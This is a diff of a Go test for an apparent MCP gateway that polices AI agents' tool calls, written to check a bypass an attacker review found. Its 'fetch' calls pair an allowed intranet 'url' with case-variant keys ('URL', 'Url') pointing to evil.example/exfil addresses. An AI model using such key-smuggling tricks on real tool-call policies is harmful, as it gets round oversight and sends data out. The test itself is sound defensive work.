@@ -2,36 +2,14 @@ package main
 
 import (
 	"context"
-	"io"
 	"net/http"
 	"strings"
 	"sync"
 	"testing"
-	"time"
 
 	"github.com/mark3labs/mcp-go/mcp"
 	"github.com/mark3labs/mcp-go/server"
 )
-
-// sessionPost posts body in session sid (empty: none) and returns the
-// session id the answer names and the body.
-func sessionPost(t *testing.T, url, sid, body string) (string, string) {
-	t.Helper()
-	req, _ := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
-	req.Header.Set("Content-Type", "application/json")
-	req.Header.Set("Accept", "application/json, text/event-stream")
-	req.Header.Set("Mcp-Protocol-Version", "2025-11-25")
-	if sid != "" {
-		req.Header.Set("Mcp-Session-Id", sid)
-	}
-	resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer resp.Body.Close()
-	b, _ := io.ReadAll(resp.Body)
-	return resp.Header.Get("Mcp-Session-Id"), string(b)
-}
 
 // TestArgumentKeyCaseVariant (found by an attacker review): a condition reads args.url, but the
 // arguments also carry "URL" (or "ur\u212a"-style Unicode fold variants).
@@ -58,18 +36,21 @@ func TestArgumentKeyCaseVariant(t *testing.T) {
     - {id: intranet-only, match: {match_tool: [fetch]}, when: 'args.url.startsWith("https://intranet.example/")', decision: allow}
 `, func(http.Handler) http.Handler { return server.NewStreamableHTTPServer(s) })
 
-	sid, body := sessionPost(t, g.url, "", `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"alice","version":"1"}}}`)
+	hdr := map[string]string{"Mcp-Protocol-Version": "2025-11-25"}
+	_, h, body := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"alice","version":"1"}}}`)
+	sid := h.Get("Mcp-Session-Id")
 	if sid == "" {
 		t.Fatalf("initialize: no session: %s", body)
 	}
-	sessionPost(t, g.url, sid, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
+	hdr["Mcp-Session-Id"] = sid
+	postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
 
 	for i, args := range []string{
 		`{"url":"https://intranet.example/a","URL":"https://evil.example/exfil?1"}`,
 		`{"url":"https://intranet.example/a","Url":"https://evil.example/exfil?2"}`,
 		`{"url":"https://intranet.example/a","\u0055RL":"https://evil.example/exfil?3"}`,
 	} {
-		_, got := sessionPost(t, g.url, sid, `{"jsonrpc":"2.0","id":`+string(rune('1'+i))+`,"method":"tools/call","params":{"name":"fetch","arguments":`+args+`}}`)
+		_, _, got := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":`+string(rune('1'+i))+`,"method":"tools/call","params":{"name":"fetch","arguments":`+args+`}}`)
 		t.Logf("%s -> %s", args, got)
 	}
 	mu.Lock()
